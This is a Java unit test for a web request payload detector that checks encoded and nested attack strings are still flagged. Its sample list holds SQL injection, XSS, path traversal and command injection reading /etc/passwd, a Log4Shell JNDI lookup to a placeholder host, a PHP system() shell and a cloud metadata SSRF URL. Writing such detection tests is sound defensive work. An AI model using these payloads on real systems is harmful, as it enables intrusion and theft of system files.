package io.throughline.core.payload;

import static org.assertj.core.api.Assertions.assertThat;

import io.throughline.core.model.RequestParts;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/** Whatever an attack is encoded in, once or twice, it stays one. */
class EncodingsTest {
    private static final List<String> ATTACKS = List.of(
            "7' or 'a'='a",
            "-1 union select 1,2,3 from users--",
            "<script>alert(1)</script>",
            "<svg onload=alert(1)>",
            "../../../../etc/passwd",
            "; cat /etc/passwd",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "<?php system('id'); ?>",
            "http://169.254.169.254/latest/");

    private static final List<UnaryOperator<String>> ENCODINGS = List.of(
            text -> URLEncoder.encode(text, StandardCharsets.UTF_8),
            text -> each(text, "%%%02x"),
            text -> each(text, "%%u%04x"),
            text -> each(text, "\\u%04x"),
            text -> each(text, "\\x%02x"),
            text -> each(text, "&#%d;"),
            text -> each(text, "&#x%x;"),
            text -> Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8)),
            text -> Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8)));

    private static String each(String text, String form) {
        StringBuilder encoded = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            encoded.append(form.formatted((int) text.charAt(i)));
        }
        return encoded.toString();
    }

    private static boolean seen(String value) {
        String query = "q=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
        return !new PayloadCheck().check(RequestParts.ofTarget("/items", query)).isEmpty();
    }

    @Test
    void seesAttacksThroughOneLayer() {
        for (String attack : ATTACKS) {
            for (UnaryOperator<String> encoding : ENCODINGS) {
                assertThat(seen(encoding.apply(attack)))
                        .as(encoding.apply(attack))
                        .isTrue();
            }
        }
    }

    @Test
    void seesAttacksThroughTwoLayers() {
        for (String attack : ATTACKS) {
            for (UnaryOperator<String> outer : ENCODINGS) {
                for (UnaryOperator<String> inner : ENCODINGS) {
                    String encoded = outer.apply(inner.apply(attack));
                    assertThat(seen(encoded)).as(encoded).isTrue();
                }
            }
        }
    }

    @Test
    void seesAttacksInTextThatIsHarmless() {
        Random random = new Random(7);
        for (String attack : List.of("<script>alert(1)</script>", "${jndi:ldap://x.example/a}", "$(cat /etc/passwd)")) {
            for (int i = 0; i < 50; i++) {
                String before = "lorem ipsum ".repeat(random.nextInt(20));
                String behind = " dolor sit".repeat(random.nextInt(20));
                assertThat(seen(before + attack + behind)).isTrue();
            }
        }
    }

    @Test
    void takesOverlongSequencesForWhatTheyMean() {
        assertThat(new PayloadCheck()
                        .check(RequestParts.ofTarget(
                                "/items", "q=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd")))
                .isNotEmpty();
    }

    @Test
    void looksNoDeeperThanItsLimitAndSaysSo() {
        String value = "7' or 'a'='a";
        for (int i = 0; i < 20; i++) {
            value = URLEncoder.encode(value, StandardCharsets.UTF_8);
        }
        PayloadCheck check = new PayloadCheck();
        check.check(RequestParts.ofTarget("/items", "q=" + value));
        assertThat(check.cut()).isTrue();
    }
}
